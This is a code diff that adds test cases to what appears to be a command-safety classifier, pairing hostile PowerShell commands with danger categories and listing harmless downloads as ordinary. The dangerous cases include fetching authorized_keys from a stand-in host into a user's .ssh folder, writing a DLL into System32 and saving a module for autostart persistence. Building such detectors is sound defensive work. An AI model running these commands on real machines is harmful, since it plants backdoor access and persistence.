@@ -4284,6 +4284,42 @@ ORDINARY += [
     ("FileSystem", _fs("copy", r"C:\Users\me\Desktop\a.txt", destination=r"C:\Users\me\Documents")),
 ]
 
+# A download, remote copy, link, clone or saved module that fills a folder (S-RULE-148).
+DANGEROUS += [
+    (
+        "PowerShell",
+        _ps(r"Invoke-WebRequest https://x.example/authorized_keys -OutFile C:\Users\me\.ssh"),
+        "account-change",
+    ),
+    (
+        "PowerShell",
+        _ps(r"curl.exe --output-dir C:\Users\me\.ssh -O https://x.example/authorized_keys"),
+        "account-change",
+    ),
+    ("PowerShell", _ps(r"curl -o C:\Windows\System32\x.dll https://x.example/b"), "protected-place-write"),
+    ("PowerShell", _ps(r"wget -O C:\Users\me\.ssh\authorized_keys https://x.example/b"), "account-change"),
+    ("PowerShell", _ps(r"scp user@host:authorized_keys C:\Users\me\.ssh"), "account-change"),
+    ("PowerShell", _ps(r"New-Item -ItemType Junction -Path C:\Users\me\.ssh -Target C:\t\ssh"), "copy-over-protected"),
+    (
+        "PowerShell",
+        _ps(r"git clone https://x.example/d C:\Users\me\Documents\WindowsPowerShell"),
+        "copy-over-protected",
+    ),
+    (
+        "PowerShell",
+        _ps(r"Save-Module Evil -Path C:\Users\me\Documents\WindowsPowerShell\Modules"),
+        "persistence-autostart",
+    ),
+    ("PowerShell", _ps(r"extrac32 /Y /C C:\t\k C:\Users\me\.ssh\authorized_keys"), "account-change"),
+    ("PowerShell", _ps("wsl rsync -a host:/x/ /mnt/c/Users/me/.ssh/"), "credential-access"),
+]
+ORDINARY += [
+    ("PowerShell", _ps(r"curl -o C:\t\page.html https://example.com")),
+    ("PowerShell", _ps(r"Invoke-WebRequest https://example.com/a.zip -OutFile C:\Users\me\Downloads")),
+    ("PowerShell", _ps(r"git clone --depth 1 https://github.com/x/y.git C:\src\y")),
+    ("PowerShell", _ps(r"cmd /c mklink /J C:\t\j D:\data")),
+]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
